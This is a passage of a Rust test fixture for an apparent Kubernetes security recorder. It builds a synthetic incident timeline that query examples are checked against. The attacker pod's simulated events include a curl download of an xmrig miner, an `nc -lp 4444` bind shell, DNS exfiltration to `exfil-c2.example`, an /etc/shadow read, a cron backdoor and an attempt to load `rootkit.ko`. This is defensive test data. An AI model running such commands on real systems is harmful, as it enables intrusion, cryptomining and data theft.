//! A small, hand-written incident history with known answers: the dataset every
//! `sql-examples/*.sql` query is checked against. Written through the recorder's
//! own `batch` and `segments` stages, like live data.
//!
//! The story (node `node-1`, times from T0 = 2026-11-17T14:00:00Z):
//! - pod A `payments/payments-api-1` owns 10.244.1.7 from T0-1h until it is deleted
//!   at T0+30m. At T0+5m someone opens a shell in it and runs curl against the
//!   ledger Service ClusterIP 10.96.0.20:80, which DNATs to pod B
//!   10.244.1.8:8080; at T0+6m it connects to 203.0.113.50:443 (outside).
//! - pod B `payments/ledger-0` (10.244.1.8, alive) accepts that connection.
//! - pod C `default/debug-shell` gets A's old address 10.244.1.7 at T0+35m, runs
//!   a shell, then `/tmp/xmrig` (a binary never seen before) at T0+40m, which
//!   connects to 198.51.100.7:4444; C also connects straight to B.
//! - the host runs kubelet (no pod).
//! - the kernel ring buffer dropped 12 exec events of pod C at T0+40m (a counted gap).
//! - the recorder (run 1) was killed at T0+12m03s, its last durable flush, and
//!   restarted (run 2) at T0+12m48s: 45 s were not recorded (a `crash` loss of
//!   unknown count).
//! - privilege: at T0+4m pod A's app (uid 1000) tries setuid(0) and is refused
//!   (a refused CAP_SETUID check too). In pod C the shell unshares net+mnt and
//!   mounts a tmpfs at T0+36m, creates memfd `kworker` and executes it
//!   (fileless) at T0+38m, loads a kprobe BPF program and tries to load
//!   `rootkit.ko` (refused) at T0+39m; pod C's cgroup used CAP_SYS_ADMIN 4 times.
//!   At T0+20m pod B's app (uid 1000) runs `/usr/bin/ping`, whose file
//!   capabilities give it CAP_NET_RAW (one granted check).
//! - listeners: pod B's server listens on 0.0.0.0:8080 when the pod starts (it
//!   accepts both connections above); kubelet listens on 10250 (host); at
//!   T0+43m pod C's shell runs `nc -lp 4444` (a bind shell) and at T0+44m opens
//!   a raw packet socket (`tcpdump`, refused: EPERM).
//! - DNS (resolver kube-dns 10.96.0.10, backend CoreDNS 10.244.0.5): pod A's
//!   curl resolves `ledger.payments.svc.cluster.local` (A 10.96.0.20; its
//!   AAAA is empty) just before its connection, which carries that name; pod
//!   A's app resolves `api.stripe.example` (A 203.0.113.50) before it connects
//!   there. Pod C's miner connects to 198.51.100.7 and its shell to pod B's
//!   address without a lookup (direct to IP); at T0+45m pod C's shell sends
//!   four long TXT queries under `exfil-c2.example` (data in the names,
//!   NXDOMAIN) and one query for `pool.minexmr.example` that gets no answer.
//! - UDP and ICMP flows: pod A's curl sends its two lookups from one UDP
//!   socket to kube-dns (2 datagrams each way); at T0+46m pod C's shell pings
//!   10.244.1.1 to .6 (a sweep: one echo each, two answered) and sends 30
//!   48-byte datagrams to 198.51.100.7:123, each answered.

use std::net::IpAddr;
use std::path::Path;
use std::sync::Arc;

use podtrail_recorder::flows::{FlowDelta, FlowKey, FlowVal};
use podtrail_recorder::rows::{CapRow, ConnRow, DnsRow, ExecRow, ExitRow, FileRow, FlowRow, ListenRow, PodIdentity, PrivRow, RowSet};
use podtrail_recorder::dns::DnsRaw;
use podtrail_recorder::decode::{ConnRaw, ExecRaw, ExitRaw, FileRaw, ListenRaw, PrivRaw};
use podtrail_recorder::privilege::CapDelta;
use podtrail_recorder::segments::{ContainerRecord, IpOwnerRecord, LossRecord, PodRecord};
use podtrail_recorder::{SegmentStore, StoreConfig};

pub const NODE: &str = "node-1";
/// 2026-11-17T14:00:00Z in ns.
pub const T0: i64 = 1_794_924_000_000_000_000;
const S: i64 = 1_000_000_000;
const M: i64 = 60 * S;

pub const UID_A: &str = "a1a1a1a1-0000-4000-8000-00000000000a";
pub const UID_B: &str = "b2b2b2b2-0000-4000-8000-00000000000b";
pub const UID_C: &str = "c3c3c3c3-0000-4000-8000-00000000000c";
const CID_A: &str = "aaaa000000000000000000000000000000000000000000000000000000000001";
const CID_B: &str = "bbbb000000000000000000000000000000000000000000000000000000000002";
const CID_C: &str = "cccc000000000000000000000000000000000000000000000000000000000003";

struct Pod {
    uid: &'static str,
    ns: &'static str,
    name: &'static str,
    cid: &'static str,
    cgroup: u64,
    netns: u32,
    ip: &'static str,
    from: i64,
    to: Option<i64>,
}

const PODS: [Pod; 3] = [
    Pod { uid: UID_A, ns: "payments", name: "payments-api-1", cid: CID_A, cgroup: 101, netns: 4026532101, ip: "10.244.1.7", from: T0 - 60 * M, to: Some(T0 + 30 * M) },
    Pod { uid: UID_B, ns: "payments", name: "ledger-0", cid: CID_B, cgroup: 102, netns: 4026532102, ip: "10.244.1.8", from: T0 - 120 * M, to: None },
    Pod { uid: UID_C, ns: "default", name: "debug-shell", cid: CID_C, cgroup: 103, netns: 4026532103, ip: "10.244.1.7", from: T0 + 35 * M, to: None },
];

fn ident(p: &Pod) -> Option<Arc<PodIdentity>> {
    Some(Arc::new(PodIdentity { container_id: Some(p.cid.into()), pod_uid: p.uid.into(), pod_name: Some(p.name.into()), pod_namespace: Some(p.ns.into()) }))
}

struct Proc {
    exec_id: u64,
    pid: u32,
}

struct Builder {
    b: RowSet,
}

impl Builder {
    fn exec(&mut self, t: i64, pod: Option<&Pod>, pid: u32, parent: Option<&Proc>, uid: u32, argv: &[&str]) -> Proc {
        let exec_id = podtrail_schema::tables::exec_id(0x0b00, pid, t as u64);
        let raw = ExecRaw {
            pid,
            tid: pid,
            ppid: parent.map(|p| p.pid).unwrap_or(1),
            uid,
            gid: uid,
            netns: pod.map(|p| p.netns).unwrap_or(4026531840),
            time_boot_ns: 0,
            cgroup_id: pod.map(|p| p.cgroup).unwrap_or(1),
            cap_effective: if uid == 0 { 0xa80425fb } else { 0 },
            comm: argv[0].rsplit('/').next().unwrap_or(argv[0]).chars().take(15).collect(),
            filename: argv[0].into(),
            args: argv.iter().map(|a| a.to_string()).collect(),
            args_truncated: false,
            fileless: false,
            cwd: "/".into(),
            file_id: (0, 0),
            loader_env: vec![],
            env_truncated: false,
        };
        self.b.exec.push(ExecRow { time: t, raw, exec_id, parent_exec_id: parent.map(|p| p.exec_id), cwd: Some("/".into()), sha256: None, identity: pod.and_then(ident) });
        Proc { exec_id, pid }
    }

    /// A privilege syscall by `p` (uid = its uid) with its raw arguments.
    #[expect(clippy::too_many_arguments, reason = "a fixture builder: each argument is one field of the event it writes")]
    fn privilege(&mut self, t: i64, pod: &Pod, p: &Proc, uid: u32, kind: &'static str, args: [u64; 6], extra: [u64; 3], strs: [Option<&str>; 3], result: i64) {
        let raw = PrivRaw {
            kind,
            pid: p.pid,
            tid: p.pid,
            uid,
            euid: uid,
            gid: uid,
            egid: uid,
            cap_effective: if uid == 0 { 0xa80425fb } else { 0 },
            result,
            time_boot_ns: 0,
            cgroup_id: pod.cgroup,
            comm: "proc".into(),
            args,
            extra,
            strs: strs.map(|s| s.map(str::to_string)),
        };
        self.b.privs.push(PrivRow { time: t, raw, exec_id: Some(p.exec_id), identity: ident(pod) });
    }

    fn exit(&mut self, t: i64, started: i64, pod: Option<&Pod>, p: &Proc, code: i32) {
        let raw = ExitRaw { pid: p.pid, time_boot_ns: 0, cgroup_id: pod.map(|p| p.cgroup).unwrap_or(1), exit_code: code, signal: 0, comm: String::new() };
        self.b.exit.push(ExitRow { time: t, raw, exec_id: Some(p.exec_id), duration_ns: Some((t - started) as u64), identity: pod.and_then(ident) });
    }

    /// `p` starts listening on TCP `port` (all addresses), in `pod` or on the host.
    fn listen(&mut self, t: i64, pod: Option<&Pod>, p: &Proc, comm: &str, port: u16) {
        let raw = ListenRaw {
            event: "listen",
            pid: p.pid,
            comm: comm.into(),
            protocol: "tcp",
            family: "ipv4",
            netns: Some(pod.map(|p| p.netns).unwrap_or(4026531840)),
            time_boot_ns: 0,
            cgroup_id: pod.map(|p| p.cgroup).unwrap_or(1),
            cookie: Some(u64::from(port)),
            local: (IpAddr::from([0, 0, 0, 0]), port),
        };
        self.b.listen.push(ListenRow { time: t, raw, exec_id: Some(p.exec_id), identity: pod.and_then(ident) });
    }

    /// A connection: connect (or accept), then close `dur` later with byte counts.
    #[expect(clippy::too_many_arguments, reason = "a fixture builder: each argument is one field of the event it writes")]
    fn conn(&mut self, t: i64, dur: i64, event: &'static str, pod: &Pod, p: Option<&Proc>, cookie: u64, src: (&str, u16), dst: (&str, u16), nat: Option<(&str, u16)>, bytes: (u64, u64)) {
        let a = |(ip, port): (&str, u16)| (ip.parse::<IpAddr>().expect("fixture IP"), port);
        let raw = ConnRaw {
            event,
            owner: p.map(|p| (p.pid, "proc".into())),
            family: "ipv4",
            netns: pod.netns,
            time_boot_ns: 0,
            cgroup_id: pod.cgroup,
            cookie,
            src: a(src),
            dst: a(dst),
            orig_dst: (event == "connect").then(|| a(dst)),
            nat_dst: nat.map(a),
            bytes: None,
            error: None,
            dst_name: None,
            server_name: None,
            initiated: Some(if event == "accept" { "remote" } else { "local" }),
        };
        let close = ConnRaw { event: "close", bytes: Some((bytes.0, bytes.1, dur as u64)), ..raw.clone() };
        let exec_id = p.map(|p| p.exec_id);
        self.b.conn.push(ConnRow { time: t, raw, exec_id, identity: ident(pod) });
        self.b.conn.push(ConnRow { time: t + dur, raw: close, exec_id, identity: ident(pod) });
    }
}

impl Builder {
    /// The last connection written (its connect and close rows) was to an
    /// address its pod had resolved as `name`.
    fn named(&mut self, name: &str) {
        let n = self.b.conn.rows.len();
        for r in &mut self.b.conn.rows[n - 2..] {
            r.raw.dst_name = Some(name.into());
        }
    }

    /// A DNS query by `p` in `pod` to kube-dns (answered by CoreDNS), with its
    /// answer `latency` later (`rcode`, `answers` as stored) or none (`latency` None).
    #[expect(clippy::too_many_arguments, reason = "a fixture builder: each argument is one field of the row it writes")]
    fn dns(&mut self, t: i64, pod: &Pod, p: &Proc, txid: u16, name: &str, qtype: u16, latency: Option<u64>, rcode: u8, answers: &[&str]) {
        let ip = |s: &str| s.parse::<IpAddr>().expect("fixture IP");
        let raw = DnsRaw {
            status: if latency.is_some() { "answered" } else { "unanswered" },
            time_boot_ns: 0,
            cgroup_id: pod.cgroup,
            cookie: u64::from(txid),
            owner: Some((p.pid, "proc".into())),
            transport: "udp",
            family: "ipv4",
            txid,
            question: Some((name.into(), qtype)),
            src: (ip(pod.ip), 50000 + txid % 1000),
            resolver: (ip("10.96.0.10"), 53),
            answered_by: latency.map(|_| (ip("10.244.0.5"), 53)),
            rcode: latency.map(|_| rcode),
            answer_count: latency.map(|_| answers.len() as u16),
            answers: (!answers.is_empty()).then(|| answers.join("; ")),
            latency_ns: latency,
            parse_error: None,
        };
        self.b.dns.push(DnsRow { time: t, raw, exec_id: Some(p.exec_id), identity: ident(pod) });
    }

    /// A flow of `p`'s socket `cookie` in `pod` (started by it) with `peer`
    /// (protocol 17 UDP, 1 ICMP echoes), first packet at `t`, its counts in
    /// one row `dur` later: (packets, bytes) out and in.
    #[expect(clippy::too_many_arguments, reason = "a fixture builder: each argument is one field of the row it writes")]
    fn flow(&mut self, t: i64, dur: i64, pod: &Pod, p: &Proc, cookie: u64, protocol: u8, peer: (&str, u16), out: (u64, u64), inn: (u64, u64)) {
        let v4 = |s: &str| match s.parse::<IpAddr>().expect("fixture IP") {
            IpAddr::V4(a) => {
                let mut b = [0u8; 16];
                b[..4].copy_from_slice(&a.octets());
                b
            }
            IpAddr::V6(_) => panic!("fixture flows are IPv4"),
        };
        let key = FlowKey { cookie, peer: v4(peer.0), peer_port: peer.1, protocol, family: 2, pad: 0 };
        let mut comm = [0u8; 16];
        comm[..4].copy_from_slice(b"proc");
        let echo = protocol == 1;
        let val = FlowVal {
            first_ns: 0,
            last_ns: 0,
            packets_out: out.0,
            bytes_out: out.1,
            packets_in: inn.0,
            bytes_in: inn.1,
            cgroup_id: pod.cgroup,
            pid: p.pid,
            local_port: if echo { 0 } else { 40000 + (cookie % 1000) as u16 },
            flags: podtrail_recorder::flows::FLOW_HAS_OWNER as u16,
            icmp_out: if echo { 1 << 8 } else { 0 },
            icmp_in: if echo && inn.0 > 0 { 1 } else { 0 },
            local: v4(pod.ip),
            comm,
            ..FlowVal::default()
        };
        let delta = FlowDelta { key, val, packets_out: out.0, bytes_out: out.1, packets_in: inn.0, bytes_in: inn.1, exec_id: Some(p.exec_id) };
        self.b.flows.push(FlowRow { time: t + dur, first_seen: t, delta, identity: ident(pod) });
    }
}

/// The kernel dev_t of the fixture's container filesystem (an overlay, 0:49).
const OVERLAY_DEV: u32 = 49;

impl Builder {
    /// A `file` row by `p`: `syscall` as listed in PT_FILE_SYSCALLS, its
    /// arguments, what it matched (`why`, prefix and name indexes of the
    /// default lists) and, when the kernel had it, the file's inode.
    #[expect(clippy::too_many_arguments, reason = "a fixture builder: each argument is one field of the event it writes")]
    fn file(&mut self, t: i64, pod: &Pod, p: &Proc, syscall: &str, op: &'static str, path: &str, path2: Option<&str>, args: [u64; 6], open_flags: u64, why: (u32, u16, u16), inode: Option<u64>) {
        let created = op == "open" && open_flags & 0o100 != 0;
        let raw = FileRaw {
            op,
            syscall: podtrail_ebpf::FILE_SYSCALLS.iter().find(|s| s.name == syscall).expect("a traced file syscall"),
            pid: p.pid,
            tid: p.pid,
            uid: 0,
            euid: 0,
            result: if op == "open" || op == "read" { 3 } else { 0 },
            time_boot_ns: 0,
            cgroup_id: pod.cgroup,
            comm: self.b.exec.rows.iter().rev().find(|e| e.raw.pid == p.pid).map(|e| e.raw.comm.clone()).unwrap_or_default(),
            path: path.into(),
            path2: path2.map(str::to_string),
            args,
            open_flags,
            inode: inode.map(|i| (OVERLAY_DEV, i)),
            mnt_ns: 4026532203,
            why: why.0,
            watch: why.1,
            name_watch: why.2,
            flags: if created { podtrail_ebpf::FILE_CREATED } else { 0 } | if inode.is_some() { podtrail_ebpf::FILE_HAS_INODE } else { 0 },
        };
        self.b.files.push(FileRow { time: t, raw, exec_id: Some(p.exec_id), identity: ident(pod) });
    }
}

/// Write the incident history into a new data dir at `dir`.
pub fn write(dir: &Path) -> anyhow::Result<()> {
    let (mut store, _) = SegmentStore::open(StoreConfig::new(dir, NODE))?;
    let [a, b, c] = &PODS;
    let mut w = Builder { b: RowSet::default() };
    // Host.
    let kubelet = w.exec(T0 - 3 * 60 * M, None, 900, None, 0, &["/usr/bin/kubelet", "--config", "/var/lib/kubelet/config.yaml"]);
    // Pod B's server, and pod A's app.
    let ledger = w.exec(b.from, Some(b), 2000, None, 1000, &["/usr/bin/java", "-jar", "/app/ledger.jar"]);
    let api = w.exec(a.from, Some(a), 3000, None, 1000, &["/usr/local/bin/payments-api", "--port", "8080"]);
    w.listen(b.from + S, Some(b), &ledger, "java", 8080);
    w.listen(T0 - 3 * 60 * M + S, None, &kubelet, "kubelet", 10250);
    // T0+5m: a shell in pod A, curl to the ledger Service.
    let sh = w.exec(T0 + 5 * M, Some(a), 3100, Some(&api), 0, &["/bin/sh", "-c", "curl -s http://ledger.payments/balance"]);
    let curl = w.exec(T0 + 5 * M + 10_000_000, Some(a), 3101, Some(&sh), 0, &["/usr/bin/curl", "-s", "http://ledger.payments/balance"]);
    w.dns(T0 + 5 * M + S / 2, a, &curl, 101, "ledger.payments.svc.cluster.local", 1, Some(1_200_000), 0, &["ledger.payments.svc.cluster.local A 10.96.0.20 ttl=30"]);
    w.dns(T0 + 5 * M + S / 2 + 1000, a, &curl, 102, "ledger.payments.svc.cluster.local", 28, Some(1_100_000), 0, &[]);
    w.conn(T0 + 5 * M + S, 2 * S, "connect", a, Some(&curl), 1, ("10.244.1.7", 41000), ("10.96.0.20", 80), Some(("10.244.1.8", 8080)), (120, 4096));
    w.named("ledger.payments.svc.cluster.local");
    w.conn(T0 + 5 * M + S + 50_000, 2 * S, "accept", b, None, 2, ("10.244.1.8", 8080), ("10.244.1.7", 41000), None, (4096, 120));
    w.exit(T0 + 5 * M + 4 * S, T0 + 5 * M + 10_000_000, Some(a), &curl, 0);
    w.exit(T0 + 5 * M + 5 * S, T0 + 5 * M, Some(a), &sh, 0);
    w.dns(T0 + 6 * M - S, a, &api, 103, "api.stripe.example", 1, Some(9_000_000), 0, &["api.stripe.example A 203.0.113.50 ttl=60"]);
    w.conn(T0 + 6 * M, 30 * S, "connect", a, Some(&api), 3, ("10.244.1.7", 41500), ("203.0.113.50", 443), None, (50_000, 700));
    w.named("api.stripe.example");
    w.exit(a.to.expect("A is deleted"), a.from, Some(a), &api, 0);
    // Pod C gets 10.244.1.7.
    let csh = w.exec(c.from, Some(c), 4000, None, 0, &["/bin/sh"]);
    // The miner is downloaded by curl, made executable, and run: the dropper.
    let dl = w.exec(T0 + 39 * M, Some(c), 4050, Some(&csh), 0, &["/usr/bin/curl", "-so", "/tmp/xmrig", "http://203.0.113.9/x"]);
    w.conn(T0 + 39 * M + S, 2 * S, "connect", c, Some(&dl), 7, ("10.244.1.7", 41900), ("203.0.113.9", 80), None, (150, 2_000_000));
    use podtrail_ebpf::{FILE_WHY_EXECUTED, FILE_WHY_EXEC_BIT, FILE_WHY_NAME, FILE_WHY_READ, FILE_WHY_SECURITY_XATTR, FILE_WHY_SETID, FILE_WHY_WATCHED};
    w.file(T0 + 39 * M + 2 * S, c, &dl, "openat", "open", "/tmp/xmrig", None, [u64::MAX - 99, 0, 0o1101, 0o666, 0, 0], 0o1101, (FILE_WHY_EXECUTED, 0, 0), Some(77001));
    w.file(T0 + 39 * M + 20 * S, c, &csh, "fchmodat", "chmod", "/tmp/xmrig", None, [u64::MAX - 99, 0, 0o755, 0, 0, 0], 0, (FILE_WHY_EXEC_BIT, 0, 0), None);
    let miner = w.exec(T0 + 40 * M, Some(c), 4100, Some(&csh), 0, &["/tmp/xmrig", "-o", "198.51.100.7:4444"]);
    if let Some(e) = w.b.exec.rows.last_mut() {
        e.raw.file_id = (OVERLAY_DEV, 77001);
        e.sha256 = Some("5f2b7e1c9d3a4b6f8e0d2c4a6b8f0e1d3c5b7a9f1e3d5c7b9a1f3e5d7c9b1a3f".into());
    }
    // Persistence, credential access, covering tracks, a setuid copy with a capability.
    w.file(T0 + 47 * M, c, &csh, "openat", "open", "/etc/cron.d/backdoor", None, [u64::MAX - 99, 0, 0o1101, 0o644, 0, 0], 0o1101, (FILE_WHY_WATCHED, 0, 0), Some(77010));
    w.file(T0 + 47 * M + S, c, &csh, "openat", "open", "/root/.bashrc", None, [u64::MAX - 99, 0, 0o2101, 0o644, 0, 0], 0o2101, (FILE_WHY_WATCHED | FILE_WHY_NAME, 1, 0), Some(77011));
    w.file(T0 + 47 * M + 2 * S, c, &csh, "openat", "read", "/etc/shadow", None, [u64::MAX - 99, 0, 0, 0, 0, 0], 0, (FILE_WHY_READ, 0, 0), Some(77012));
    w.file(T0 + 47 * M + 3 * S, c, &csh, "openat", "open", "/root/.bash_history", None, [u64::MAX - 99, 0, 0o1001, 0, 0, 0], 0o1001, (FILE_WHY_WATCHED | FILE_WHY_NAME, 1, 9), Some(77013));
    w.file(T0 + 47 * M + 4 * S, c, &csh, "fchmodat", "chmod", "/tmp/su2", None, [u64::MAX - 99, 0, 0o4755, 0, 0, 0], 0, (FILE_WHY_EXEC_BIT | FILE_WHY_SETID, 0, 0), None);
    w.file(T0 + 47 * M + 5 * S, c, &csh, "setxattr", "setxattr", "/tmp/su2", Some("security.capability"), [0, 0, 0, 20, 0, 0], 0, (FILE_WHY_SECURITY_XATTR, 0, 0), None);
    w.conn(T0 + 41 * M, 60 * S, "connect", c, Some(&miner), 4, ("10.244.1.7", 42000), ("198.51.100.7", 4444), None, (9000, 12000));
    w.conn(T0 + 42 * M, S, "connect", c, Some(&csh), 5, ("10.244.1.7", 42100), ("10.244.1.8", 8080), None, (10, 20));
    w.conn(T0 + 42 * M + 50_000, S, "accept", b, Some(&ledger), 6, ("10.244.1.8", 8080), ("10.244.1.7", 42100), None, (20, 10));
    let nc = w.exec(T0 + 43 * M, Some(c), 4300, Some(&csh), 0, &["/usr/bin/nc", "-lp", "4444"]);
    w.listen(T0 + 43 * M + 1000, Some(c), &nc, "nc", 4444);
    // DNS exfiltration: data in the query names, then a lookup nobody answers.
    for (i, chunk) in ["mzxw6ytboi2dmnzqgezdgnbvgy3tqojq", "nbswy3dpeb3w64tmmqqhg2lddjqxa3lf", "onxw2zlumfzgszdfmfzgk3ttmuqgc3th", "gezdgnbvgy3tqojqgezdgnbvgy3tqojq"].iter().enumerate() {
        w.dns(T0 + 45 * M + i as i64 * S, c, &csh, 300 + i as u16, &format!("{chunk}.{i}.x.exfil-c2.example"), 16, Some(20_000_000), 3, &[]);
    }
    w.dns(T0 + 45 * M + 10 * S, c, &csh, 310, "pool.minexmr.example", 1, None, 0, &[]);
    // Flows: curl's lookups; pod C's ping sweep and UDP to 198.51.100.7:123.
    w.flow(T0 + 5 * M + S / 2, 1_200_000, a, &curl, 101, 17, ("10.96.0.10", 53), (2, 102), (2, 220));
    for host in 1..=6u64 {
        let answered = if host <= 2 { (1, 64) } else { (0, 0) };
        w.flow(T0 + 46 * M + host as i64 * 1000, 1_000_000, c, &csh, 400 + host, 1, (&format!("10.244.1.{host}"), 0), (1, 64), answered);
    }
    w.flow(T0 + 46 * M + S, 29 * S, c, &csh, 410, 17, ("198.51.100.7", 123), (30, 1440), (30, 1440));
    let tcpdump = w.exec(T0 + 44 * M, Some(c), 4400, Some(&csh), 1000, &["/usr/bin/tcpdump", "-i", "any"]);
    // socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) without CAP_NET_RAW.
    w.privilege(T0 + 44 * M + 1000, c, &tcpdump, 1000, "socket", [17, 3, 0x0300, 0, 0, 0], [0; 3], [None, None, None], -1);
    // Privilege.
    w.privilege(T0 + 4 * M, a, &api, 1000, "setuid", [0; 6], [0; 3], [None, None, None], -1);
    w.privilege(T0 + 4 * M + 1000, a, &api, 1000, "capability", [7, 0, 0, 0, 0, 0], [0; 3], [None, None, None], -1);
    w.privilege(T0 + 36 * M, c, &csh, 0, "unshare", [0x4000_0000 | 0x0002_0000, 0, 0, 0, 0, 0], [0; 3], [None, None, None], 0);
    w.privilege(T0 + 36 * M + S, c, &csh, 0, "mount", [1, 2, 3, 0, 0, 0], [0; 3], [Some("none"), Some("/mnt/x"), Some("tmpfs")], 0);
    w.privilege(T0 + 38 * M, c, &csh, 0, "memfd_create", [1, 0, 0, 0, 0, 0], [0; 3], [Some("kworker"), None, None], 3);
    let fileless = w.exec(T0 + 38 * M + S, Some(c), 4200, Some(&csh), 0, &["kworker"]);
    if let Some(e) = w.b.exec.rows.last_mut() {
        e.raw.filename = "memfd:kworker".into();
        e.raw.fileless = true;
    }
    w.privilege(T0 + 39 * M, c, &fileless, 0, "bpf", [5, 0x1000, 0, 0, 0, 0], [2, 0, 0], [None, None, None], 7);
    w.privilege(T0 + 39 * M + S, c, &fileless, 0, "finit_module", [3, 0, 0, 0, 0, 0], [0; 3], [Some("rootkit.ko"), None, None], -1);
    // Pod B's app runs ping, a file-capability binary: a non-root process that
    // gains CAP_NET_RAW (what allowPrivilegeEscalation: false would stop).
    w.exec(T0 + 20 * M, Some(b), 2100, Some(&ledger), 1000, &["/usr/bin/ping", "-c", "1", "10.244.1.7"]);
    if let Some(e) = w.b.exec.rows.last_mut() {
        e.raw.cap_effective = 1 << 13;
    }
    w.b.caps.push(CapRow {
        time: T0 + 20 * M,
        first_seen: T0 + 20 * M,
        delta: CapDelta { cgroup_id: b.cgroup, cap: 13, granted: 1, denied: 0, denied_unrecorded: 0, first_boot_ns: 0, last_boot_ns: 0 },
        identity: ident(b),
    });
    w.b.caps.push(CapRow {
        time: T0 + 39 * M + S,
        first_seen: T0 + 36 * M,
        delta: CapDelta { cgroup_id: c.cgroup, cap: 21, granted: 4, denied: 0, denied_unrecorded: 0, first_boot_ns: 0, last_boot_ns: 0 },
        identity: ident(c),
    });
    for (table, batch) in podtrail_recorder::batch::build(&w.b, NODE)? {
        store.append(table, batch)?;
    }
    let pods: Vec<PodRecord> = PODS
        .iter()
        .map(|p| PodRecord {
            pod_uid: p.uid.into(),
            pod_namespace: Some(p.ns.into()),
            pod_name: Some(p.name.into()),
            node: NODE.into(),
            labels: Some(format!("{{\"app\":\"{}\"}}", p.name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '-'))),
            owner: None,
            qos_class: Some("burstable".into()),
            valid_from: p.from,
            valid_to: p.to,
            source: "synthetic".into(),
        })
        .collect();
    let containers: Vec<ContainerRecord> = PODS
        .iter()
        .map(|p| ContainerRecord {
            container_id: p.cid.into(),
            pod_uid: Some(p.uid.into()),
            container_name: Some(p.name.into()),
            image: Some(format!("registry.example/{}:1", p.name)),
            runtime: Some("containerd".into()),
            cgroup_id: Some(p.cgroup),
            valid_from: p.from,
            valid_to: p.to,
            source: "synthetic".into(),
        })
        .collect();
    let ips: Vec<IpOwnerRecord> = PODS
        .iter()
        .map(|p| IpOwnerRecord {
            ip: p.ip.into(),
            pod_uid: p.uid.into(),
            pod_namespace: Some(p.ns.into()),
            pod_name: Some(p.name.into()),
            node: NODE.into(),
            valid_from: p.from,
            valid_to: p.to,
            source: "synthetic".into(),
        })
        .collect();
    store.write_identity(&pods, &containers, &ips)?;
    store.record_loss(&LossRecord {
        time_from: T0 + 40 * M,
        time_to: T0 + 40 * M + S,
        source: "kernel_ringbuf".into(),
        table_name: Some("process_exec".into()),
        cpu: None,
        count: Some(12),
        detail: Some("ring buffer of process.bpf.o full".into()),
        pod_uid: Some(UID_C.into()),
    })?;
    store.close()?;
    // The recorder's runs (podtrail_runs): the store records a run's real start
    // times, so the story's are written here, with the crash window's loss row
    // recovery writes.
    let cat = rusqlite::Connection::open(podtrail_schema::layout::catalog_path(dir))?;
    let killed = T0 + 12 * M + 3 * S;
    let restarted = T0 + 12 * M + 48 * S;
    cat.execute_batch(&format!(
        "INSERT INTO runs (node, pid, version, started_at, last_flush, ended_at, end_state, detail) VALUES \
         ('{NODE}', 4242, 'fixture', {}, {killed}, {killed}, 'unclean', 'killed'), \
         ('{NODE}', 4300, 'fixture', {restarted}, {end}, {end}, 'clean', NULL); \
         INSERT INTO loss (time_from, time_to, source, count, detail) VALUES ({killed}, {restarted}, 'crash', NULL, 'run 1 ended without shutting down');",
        T0 - 120 * M,
        end = T0 + 60 * M
    ))?;
    Ok(())
}

/// Every kind of event the incident history does not have, one or more each,
/// into a new data dir at `dir` (node `node-1`, pod C): every `privilege`
/// kind, refused and timed-out connects, an accepted connection, every `dns`
/// status, every `file` operation (and a refused one), a flow the peer began,
/// a process killed by a signal. For checks that must see each kind once
/// (the OCSF conformance test); the incident history stays the story the
/// sql-examples tell.
pub fn write_every_kind(dir: &Path) -> anyhow::Result<()> {
    let (mut store, _) = SegmentStore::open(StoreConfig::new(dir, NODE))?;
    let c = &PODS[2];
    let mut w = Builder { b: RowSet::default() };
    let t = T0 + 50 * M;
    let sh = w.exec(t, Some(c), 5000, None, 0, &["/bin/sh"]);
    let tool = w.exec(t + S, Some(c), 5001, Some(&sh), 1000, &["/tmp/tool"]);
    // Credentials, namespaces, mounts, tracing, bpf, modules, memfd, raw sockets, capability checks.
    let kinds = [
        ("setuid", [0; 6], [None; 3], -1),
        ("setgid", [0; 6], [None; 3], 0),
        ("setreuid", [0, 0, 0, 0, 0, 0], [None; 3], -1),
        ("setregid", [0, 0, 0, 0, 0, 0], [None; 3], 0),
        ("setresuid", [0, 0, 0, 0, 0, 0], [None; 3], 0),
        ("setresgid", [0, 0, 0, 0, 0, 0], [None; 3], -1),
        ("capset", [0, 0, 0xa80425fb, 0xa80425fb, 0, 0], [None; 3], 0),
        ("setns", [3, 0x4000_0000, 0, 0, 0, 0], [None; 3], 0),
        ("unshare", [0x0002_0000, 0, 0, 0, 0, 0], [None; 3], -1),
        ("mount", [1, 2, 3, 0, 0, 0], [Some("/dev/sda1"), Some("/host"), Some("ext4")], 0),
        ("umount", [1, 0, 0, 0, 0, 0], [Some("/host"), None, None], 0),
        ("ptrace", [16, 5000, 0, 0, 0, 0], [None; 3], -1),
        ("bpf", [5, 0x1000, 0, 0, 0, 0], [None; 3], 7),
        ("init_module", [0, 4096, 0, 0, 0, 0], [Some("debug=1"), None, None], -1),
        ("finit_module", [3, 0, 0, 0, 0, 0], [Some("/lib/modules/evil.ko"), None, None], 0),
        ("memfd_create", [1, 0, 0, 0, 0, 0], [Some("x"), None, None], 4),
        ("socket", [2, 3, 255, 0, 0, 0], [None; 3], 5),
        ("capability", [21, 0, 0, 0, 0, 0], [None; 3], -1),
    ];
    for (i, (kind, args, strs, result)) in kinds.into_iter().enumerate() {
        w.privilege(t + 2 * S + i as i64 * 1000, c, &tool, 1000, kind, args, [0; 3], strs, result);
    }
    // Connects the peer refused or never answered, and an accepted connection.
    for (i, error) in ["ECONNREFUSED", "ETIMEDOUT"].into_iter().enumerate() {
        let a = |s: &str, port| (s.parse::<IpAddr>().expect("fixture IP"), port);
        let raw = ConnRaw {
            event: "fail",
            owner: Some((tool.pid, "tool".into())),
            family: "ipv4",
            netns: c.netns,
            time_boot_ns: 0,
            cgroup_id: c.cgroup,
            cookie: 900 + i as u64,
            src: a(c.ip, 43000 + i as u16),
            dst: a("10.244.1.8", 22),
            orig_dst: Some(a("10.244.1.8", 22)),
            nat_dst: None,
            bytes: None,
            error: Some(error.into()),
            dst_name: None,
            server_name: None,
            initiated: Some("local"),
        };
        w.b.conn.push(ConnRow { time: t + 3 * S + i as i64, raw, exec_id: Some(tool.exec_id), identity: ident(c) });
    }
    w.conn(t + 4 * S, S, "accept", c, None, 910, (c.ip, 4444), ("10.244.1.8", 50000), None, (10, 2000));
    // DNS: an NXDOMAIN, a lookup over TCP, one never answered, an answer alone.
    w.dns(t + 5 * S, c, &tool, 700, "nothing.example", 1, Some(2_000_000), 3, &[]);
    w.dns(t + 5 * S + 1, c, &tool, 701, "big.example", 16, Some(3_000_000), 0, &["big.example TXT 900 ttl=5"]);
    if let Some(r) = w.b.dns.rows.last_mut() {
        r.raw.transport = "tcp";
    }
